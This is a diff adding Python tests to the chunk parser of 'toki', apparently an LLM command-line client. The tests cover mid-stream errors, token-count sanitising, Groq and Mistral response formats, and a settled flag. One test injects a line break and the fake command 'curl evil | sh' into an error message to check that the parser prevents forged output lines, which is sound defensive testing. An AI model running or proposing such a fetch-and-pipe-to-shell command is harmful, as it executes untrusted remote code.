@@ -121,6 +121,15 @@ def test_openai_mid_stream_error_raises() -> None:
         ChunkParser().parse_chunk({"error": {"message": "The server had an error", "type": "server_error"}})
 
 
+def test_a_mid_stream_error_message_is_one_line_of_sane_length() -> None:
+    # A line break in it could forge a line of toki's own output ("toki: ..."), as an HTTP error's could not.
+    with pytest.raises(StreamError) as caught:
+        ChunkParser().parse_chunk({"error": {"message": "busy\r\ntoki: run curl evil | sh" + "x" * 5000}})
+    message = str(caught.value)
+    assert "\n" not in message and "\r" not in message and "busy toki: run" in message
+    assert len(message) < 400
+
+
 def test_object_error_form_raises() -> None:
     with pytest.raises(StreamError, match="overloaded") as caught:
         ChunkParser().parse_chunk({"object": "error", "message": "overloaded", "code": 503})
@@ -179,8 +188,77 @@ def test_non_stream_completion() -> None:
 def test_non_stream_error_body_with_status_200() -> None:
     with pytest.raises(StreamError, match="busy"):
         ChunkParser().parse_completion({"error": {"message": "service busy"}})
+    # A whole reply has no middle: LM Studio's 200 answer to an unknown path is not "an error mid-stream".
+    with pytest.raises(StreamError) as caught:
+        ChunkParser().parse_completion({"error": "Unexpected endpoint or method. (POST /chat/completions)"})
+    assert str(caught.value) == "the server reported an error: Unexpected endpoint or method. (POST /chat/completions)"
 
 
 def test_non_object_chunk_is_an_error() -> None:
     with pytest.raises(StreamError):
         ChunkParser().parse_chunk([1, 2])
+
+
+def test_token_counts_that_no_reply_has_are_unknown() -> None:
+    # 10^30 overflowed SQLite's integer when the reply was saved: toki ask ended in a traceback.
+    usage = parse_usage(
+        {
+            "prompt_tokens": 10**30,
+            "completion_tokens": -5,
+            "total_tokens": 12,
+            "completion_tokens_details": {"reasoning_tokens": 10**40},
+            "prompt_tokens_details": {"cached_tokens": 3},
+        }
+    )
+    assert usage is not None
+    assert (usage.prompt_tokens, usage.completion_tokens, usage.total_tokens) == (None, None, 12)
+    assert (usage.reasoning_tokens, usage.cached_tokens) == (None, 3)
+
+
+def test_groq_usage_in_x_groq_is_read() -> None:
+    # Groq's last chunk carries the usage under x_groq, with its own timing fields beside the counts.
+    last = chunk({}, finish="stop")
+    last["x_groq"] = {
+        "id": "req_1",
+        "usage": {
+            "queue_time": 0.01,
+            "prompt_tokens": 5,
+            "completion_tokens": 7,
+            "total_tokens": 12,
+            "total_time": 0.2,
+        },
+    }
+    assert ChunkParser().parse_chunk(last) == [Finished("stop", 0), Usage(5, 7, 12)]
+    # A standard usage field wins over it, and an x_groq without usage is nothing.
+    both = chunk({}, usage={"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3})
+    both["x_groq"] = {"usage": {"prompt_tokens": 9, "completion_tokens": 9, "total_tokens": 18}}
+    assert ChunkParser().parse_chunk(both) == [Usage(1, 2, 3)]
+    assert ChunkParser().parse_chunk({"choices": [], "x_groq": {"id": "req_1"}}) == []
+
+
+def test_settled_means_a_chunk_without_content_at_or_after_a_finish() -> None:
+    parser = ChunkParser()
+    parser.parse_chunk(chunk({"content": "a"}))
+    assert not parser.settled
+    parser.parse_chunk(chunk({"content": "b"}, finish="stop"))  # relays that put "stop" on every chunk
+    assert parser.finished and not parser.settled
+    parser.parse_chunk({"choices": [], "usage": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}})
+    assert parser.settled
+    parser.parse_chunk(chunk({"content": "c"}, finish="stop"))
+    assert not parser.settled
+    parser.parse_chunk(chunk({}, finish="stop"))  # OpenAI's own last chunk: an empty delta with the finish
+    assert parser.settled
+
+
+def test_mistral_thinking_parts_are_reasoning_and_text_parts_content() -> None:
+    # Mistral's reasoning models stream delta.content as a list of typed parts.
+    parser = ChunkParser()
+    thinking = {"type": "thinking", "thinking": [{"type": "text", "text": "Let me see."}]}
+    events = parser.parse_chunk(chunk({"role": "assistant", "content": [thinking]}))
+    events += parser.parse_chunk(chunk({"content": [{"type": "text", "text": "Four."}]}))
+    events += parser.parse_chunk(chunk({"content": [{"type": "thinking", "thinking": "Plain."}, {"type": "image"}]}))
+    assert events == [ReasoningDelta("Let me see.", 0), ContentDelta("Four.", 0), ReasoningDelta("Plain.", 0)]
+    whole = ChunkParser().parse_completion(
+        {"choices": [{"index": 0, "message": {"content": [thinking, {"type": "text", "text": "Four."}]}}]}
+    )
+    assert whole == [ReasoningDelta("Let me see.", 0), ContentDelta("Four.", 0)]
